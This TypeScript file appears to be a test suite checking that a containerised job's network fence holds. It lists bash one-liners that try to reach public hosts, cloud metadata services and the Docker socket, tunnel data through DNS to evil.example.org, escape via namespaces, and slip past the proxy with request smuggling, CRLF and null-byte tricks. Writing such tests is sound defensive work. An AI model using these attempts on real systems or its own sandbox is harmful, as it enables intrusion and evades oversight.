/**
 * Ways out of a fenced job, each as a line of bash. An attempt has got through when what lies outside has answered it with
 * MARK or has heard its ID, which each of them sends along: in a path, in a name, or as bytes.
 */

/** What hostile code knows, by the names of its variables. */
export interface Places {
  /** A server of the public internet: addresses, and the same as one number. */
  readonly PUBLIC: string;
  readonly PUBLIC6: string;
  readonly PUBLIC_NUMBER: string;
  /** The machine that docker runs on: the addresses of its interfaces, and a port with a server. */
  readonly HOST: string;
  readonly HOST_ADDRESSES: string;
  readonly HOST_PORT: string;
  /** Another container of the machine: its address and name on the gateway's network, the one on docker's own bridge, and a
   * port of the machine that leads to it. */
  readonly NEIGHBOUR: string;
  readonly NEIGHBOUR_NAME: string;
  readonly NEIGHBOUR_BRIDGE: string;
  readonly NEIGHBOUR_PORT: string;
  /** What outside servers answer. */
  readonly MARK: string;
}

export interface Attempt {
  readonly name: string;
  readonly run: string;
  /** Where jobs have an open network, it gets through: so it is a way out, and the fence is what shuts it. */
  readonly open?: true;
}

/** Functions for all of them. */
export const TOOLS = `
get() { curl -sS -m 4 --noproxy '*' "$@"; }
via() { curl -sS -m 4 --noproxy '' --proxy http://gateway:8080 "$@"; }
tunnel() { via -p "$@"; }
raw() { python3 -c '
import socket, sys
bytes = sys.argv[1].encode().decode("unicode_escape").encode("latin1")
with socket.create_connection(("gateway", 8080), 4) as s:
  s.settimeout(4); s.sendall(bytes)
  while part := s.recv(65536): sys.stdout.write(part.decode("latin1"))' "$1"; }
ask() { python3 -c '
import socket, sys
server, kind, name = sys.argv[1:4]
question = b"\\x12\\x34\\x01\\0\\0\\1\\0\\0\\0\\0\\0\\0" + b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\\0\\0\\1\\0\\1"
family = socket.AF_INET6 if ":" in server else socket.AF_INET
s = socket.socket(family, socket.SOCK_STREAM if kind == "tcp" else socket.SOCK_DGRAM); s.settimeout(3)
if kind == "tcp": s.connect((server, 53)); s.sendall(len(question).to_bytes(2) + question)
else: s.sendto(question, (server, 53))
print(s.recv(4096))' "$@"; }
udp() { python3 -c '
import socket, sys
server, port, text = sys.argv[1:4]
s = socket.socket(socket.AF_INET6 if ":" in server else socket.AF_INET, socket.SOCK_DGRAM)
s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
s.sendto(text.encode(), (server, int(port)))' "$@"; }
`;

const straight: readonly Attempt[] = [
  { name: "a public address, port 80", run: "get http://$PUBLIC/$ID", open: true },
  { name: "a public address, port 443", run: "get http://$PUBLIC:443/$ID", open: true },
  { name: "a public address, port 22", run: "get http://$PUBLIC:22/$ID", open: true },
  { name: "a public address, an odd port", run: "get http://$PUBLIC:8080/$ID", open: true },
  { name: "a public address as one number", run: "get http://$PUBLIC_NUMBER/$ID", open: true },
  { name: "a public IPv6 address", run: "get http://[$PUBLIC6]/$ID", open: true },
  { name: "an IPv4 address in an IPv6 one", run: "get http://[::ffff:$PUBLIC]/$ID", open: true },
  { name: "a name of the list, without the proxy", run: "get http://good.example.org/$ID", open: true },
  { name: "a name that is on no list, without the proxy", run: "get http://evil.example.org/$ID", open: true },
  {
    name: "a program that has never heard of a proxy",
    run: "exec 3<>/dev/tcp/$PUBLIC/80; printf 'GET /%s HTTP/1.0\\r\\n\\r\\n' $ID >&3; cat <&3",
    open: true,
  },
  { name: "the machine, at the bridge of docker", run: "get http://$HOST:$HOST_PORT/$ID", open: true },
  {
    name: "the machine, at each of its addresses",
    run: "for at in $HOST_ADDRESSES; do get -m 1 http://$at:$HOST_PORT/$ID; done",
    open: true,
  },
  {
    name: "the machine, at the first address of the job's own network",
    run: "get http://$(hostname -I | cut -d. -f1-3).1:$HOST_PORT/$ID",
    open: true,
  },
  {
    name: "whatever is near on the job's own network",
    run: "net=$(hostname -I | cut -d. -f1-3); for at in 1 2 3 4 5 254; do get -m 1 http://$net.$at:$HOST_PORT/$ID & done; wait",
    open: true,
  },
  { name: "the machine's own loopback", run: "get http://127.0.0.1:$HOST_PORT/$ID" },
  { name: "the machine, by docker's name for it", run: "get http://host.docker.internal:$HOST_PORT/$ID" },
  { name: "the metadata service", run: "get http://169.254.169.254/$ID" },
  { name: "the metadata service, at a port of the machine", run: "get http://169.254.169.254:$HOST_PORT/$ID" },
  { name: "the metadata service over IPv6", run: "get http://[fd00:ec2::254]/$ID && echo $MARK" },
  { name: "the service of Azure's machines", run: "get http://168.63.129.16/$ID && echo $MARK" },
  { name: "another container, at docker's own bridge", run: "get http://$NEIGHBOUR_BRIDGE/$ID" },
  { name: "another container, by a port of the machine", run: "get http://$HOST:$NEIGHBOUR_PORT/$ID", open: true },
  { name: "another container on the gateway's network", run: "get http://$NEIGHBOUR/$ID" },
  { name: "another container by its name", run: "get http://$NEIGHBOUR_NAME/$ID" },
  {
    name: "docker's own socket",
    run: "for at in /var/run/docker.sock /run/docker.sock; do get --unix-socket $at http://docker/version && echo $MARK; done",
  },
  { name: "docker's own port", run: "for at in gateway $HOST; do get http://$at:2375/version && echo $MARK; done" },
  {
    name: "other ports of the gateway",
    run: "for port in 22 53 80 443 2375 8081 9229; do get -m 1 http://gateway:$port/ && echo $MARK; done",
  },
];

const names: readonly Attempt[] = [
  { name: "a name, asked of the system", run: "getent hosts $ID.evil.example.org", open: true },
  { name: "a name, asked of docker's own name server", run: "ask 127.0.0.11 udp $ID.evil.example.org", open: true },
  { name: "a name, asked of docker's own name server over TCP", run: "ask 127.0.0.11 tcp $ID.evil.example.org" },
  { name: "a name, asked of a public name server", run: "ask $PUBLIC udp $ID.evil.example.org", open: true },
  { name: "a name, asked of a public name server over TCP", run: "ask $PUBLIC tcp $ID.evil.example.org", open: true },
  { name: "a name, asked of a public name server over IPv6", run: "ask $PUBLIC6 udp $ID.evil.example.org", open: true },
  { name: "a name, asked of the gateway", run: "ask $(getent hosts gateway | cut -d' ' -f1) udp $ID.evil.example.org" },
  { name: "a name, asked of the machine", run: "ask $HOST udp $ID.evil.example.org" },
  { name: "a name over HTTPS, through the proxy", run: "tunnel http://$PUBLIC:443/dns-query?$ID" },
  {
    name: "a name server of its own in /etc/resolv.conf",
    run: "echo nameserver $PUBLIC > /etc/resolv.conf && getent hosts $ID.evil.example.org",
  },
];

const packets: readonly Attempt[] = [
  { name: "a datagram to a public address", run: "udp $PUBLIC 53 $ID", open: true },
  { name: "a datagram to a public IPv6 address", run: "udp $PUBLIC6 53 $ID", open: true },
  {
    name: "datagrams to everybody",
    run: "for at in 255.255.255.255 224.0.0.251 ff02::1 ff02::fb; do for port in 53 5353 $HOST_PORT; do udp $at $port $ID; done; done",
  },
  {
    name: "a ping",
    run: 'python3 -c \'import os, socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP); s.settimeout(3); s.sendto(b"\\x08\\0\\xf7\\xff\\0\\0\\0\\0", (os.environ["PUBLIC"], 0)); s.recv(99); print(os.environ["MARK"])\'',
    open: true,
  },
  {
    name: "raw packets",
    run: "python3 -c 'import os, socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW); print(os.environ[\"MARK\"])'",
  },
  {
    name: "raw IP",
    run: "python3 -c 'import os, socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, 255); print(os.environ[\"MARK\"])'",
  },
  {
    name: "SCTP",
    run: 'python3 -c \'import os, socket; s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132); s.settimeout(3); s.connect((os.environ["PUBLIC"], 80)); print(os.environ["MARK"])\'',
  },
  {
    name: "a virtual machine's socket to its host",
    run: "python3 -c 'import os, socket; s = socket.socket(40, socket.SOCK_STREAM); s.settimeout(3); s.connect((2, 2024)); print(os.environ[\"MARK\"])'",
  },
  { name: "a network namespace of its own making", run: "unshare --user --map-root-user --net true && echo $MARK" },
  { name: "a network namespace of another process", run: "nsenter --net=/proc/1/ns/net true && echo $MARK" },
  { name: "a mount of the machine's network files", run: "unshare --user --map-root-user --mount true && echo $MARK" },
];

const proxied: readonly Attempt[] = [
  { name: "CONNECT to a name that is on no list", run: "tunnel http://evil.example.org:443/$ID" },
  { name: "a name that is on no list", run: "via http://evil.example.org/$ID" },
  { name: "a name below a listed one", run: "via http://$ID.good.example.org/$ID" },
  { name: "a name that ends like a listed one", run: "via http://evilgood.example.org/$ID" },
  { name: "a listed name as the beginning of another", run: "via http://good.example.org.evil.example.org/$ID" },
  { name: "the parent of what is listed with a star", run: "via http://below.example.org/$ID" },
  { name: "CONNECT to a public address", run: "tunnel http://$PUBLIC:443/$ID" },
  { name: "a public address", run: "via http://$PUBLIC/$ID" },
  { name: "a public IPv6 address, by the proxy", run: "via http://[$PUBLIC6]/$ID" },
  {
    name: "CONNECT to an address as one number",
    run: 'raw "CONNECT $PUBLIC_NUMBER:443 HTTP/1.1\\r\\nHost: x\\r\\n\\r\\nGET /$ID HTTP/1.0\\r\\n\\r\\n"',
  },
  { name: "an address in hexadecimal", run: "via http://0x$(printf %x $PUBLIC_NUMBER)/$ID" },
  { name: "CONNECT to port 22 of a listed name", run: "tunnel http://good.example.org:22/$ID" },
  { name: "CONNECT to port 53 of a listed name", run: "tunnel http://good.example.org:53/$ID" },
  { name: "an odd port of a listed name", run: "via http://good.example.org:8080/$ID" },
  { name: "the metadata service, by the proxy", run: "via http://169.254.169.254/$ID" },
  { name: "the machine, by the proxy", run: "via http://$HOST:$HOST_PORT/$ID" },
  { name: "another container by its name, by the proxy", run: "via http://$NEIGHBOUR_NAME/$ID" },
  { name: "the gateway's own loopback, by the proxy", run: "tunnel http://localhost:8080/$ID && echo $MARK" },
  { name: "a listed name that leads to a private address", run: "via http://private.example.org/$ID" },
  {
    name: "CONNECT to a listed name that leads to a private address",
    run: "tunnel http://private.example.org:443/$ID",
  },
  { name: "a listed name that leads to the metadata service", run: "via http://metadata.example.org/$ID" },
  {
    name: "a listed name that leads to the gateway itself",
    run: "tunnel http://loopback.example.org:80/$ID && echo $MARK",
  },
  {
    name: "a listed name that leads to a private address inside of an IPv6 one",
    run: "via http://mapped.example.org/$ID",
  },
  {
    name: "a private address beside a listed name, by the Host header",
    run: 'via -H "Host: private.example.org" http://evil.example.org/$ID',
  },
  {
    name: "a name in front of an @",
    run: 'raw "GET http://good.example.org@evil.example.org/$ID HTTP/1.1\\r\\nHost: good.example.org\\r\\n\\r\\n"',
  },
  {
    name: "CONNECT with an @",
    run: 'raw "CONNECT good.example.org:443@evil.example.org:443 HTTP/1.1\\r\\nHost: x\\r\\n\\r\\nGET /$ID HTTP/1.0\\r\\n\\r\\n"',
  },
  {
    name: "CONNECT with a null byte",
    run: 'raw "CONNECT evil.example.org\\x00.good.example.org:443 HTTP/1.1\\r\\nHost: x\\r\\n\\r\\nGET /$ID HTTP/1.0\\r\\n\\r\\n"',
  },
  {
    name: "a second request behind one that is allowed",
    run: 'raw "GET http://good.example.org/first HTTP/1.1\\r\\nHost: good.example.org\\r\\n\\r\\nGET http://evil.example.org/$ID HTTP/1.1\\r\\nHost: good.example.org\\r\\nConnection: close\\r\\n\\r\\n"',
  },
  {
    name: "a request in the body of another, Content-Length and Transfer-Encoding",
    run: 'raw "POST http://good.example.org/first HTTP/1.1\\r\\nHost: good.example.org\\r\\nContent-Length: 6\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET http://evil.example.org/$ID HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n"',
  },
  {
    name: "a request in the body of another, Transfer-Encoding in disguise",
    run: 'raw "POST http://good.example.org/first HTTP/1.1\\r\\nHost: good.example.org\\r\\nContent-Length: 200\\r\\nTransfer-Encoding : chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET /$ID HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n"',
  },
  {
    name: "a request in the body of another, an encoding that is none",
    run: 'raw "POST http://good.example.org/first HTTP/1.1\\r\\nHost: good.example.org\\r\\nTransfer-Encoding: xchunked\\r\\n\\r\\n0\\r\\n\\r\\nGET /$ID HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n"',
  },
  {
    name: "a line break in an address",
    run: 'raw "GET http://good.example.org/%0d%0aHost:%20evil.example.org%0d%0a/ HTTP/1.1\\r\\nHost: a\\r\\n b: http://evil.example.org/$ID\\r\\n\\r\\n"',
  },
  {
    name: "a file of the gateway",
    run: 'raw "GET file:///etc/passwd HTTP/1.1\\r\\nHost: x\\r\\nConnection: close\\r\\n\\r\\n" | grep root: && echo $MARK',
  },
  {
    name: "https:// without CONNECT",
    run: 'raw "GET https://evil.example.org/$ID HTTP/1.1\\r\\nHost: x\\r\\nConnection: close\\r\\n\\r\\n"',
  },
  { name: "ftp://, through the proxy", run: "via ftp://evil.example.org/$ID" },
  { name: "SOCKS, at the gateway's port", run: "get --socks5-hostname gateway:8080 http://evil.example.org/$ID" },
  {
    name: "an upgrade of the protocol",
    run: "via -H 'Connection: Upgrade' -H 'Upgrade: websocket' http://private.example.org/$ID",
  },
  { name: "HTTP/0.9", run: 'raw "GET http://evil.example.org/$ID\\r\\n\\r\\n"' },
];

export const ATTEMPTS: readonly Attempt[] = [...straight, ...names, ...packets, ...proxied];

const quote = (text: string): string => `'${text.replaceAll("'", `'\\''`)}'`;

/** What an attempt sends along. */
export const idOf = (index: number): string => `attempt-${String(index).padStart(3, "0")}-${index * 7919}`;

export const placesFile = (places: Places): string =>
  Object.entries(places)
    .map(([name, value]) => `export ${name}=${quote(value)}\n`)
    .join("");

/** Each one's output stands in a file that is called as its ID. */
export function scriptOf(attempts: readonly Attempt[], order: "all at once" | "one by one"): string {
  const runs = attempts.map(({ run }, index) => {
    const id = idOf(index);
    const line = `(export ID=${id}; timeout 20 bash -c ${quote(`. ./tools.sh; ${run}`)}; echo "ended with $?") > out/${id} 2>&1`;
    return order === "all at once" ? `${line} &` : line;
  });
  return [". ./places.sh", "mkdir out", ...runs, "wait", ""].join("\n");
}
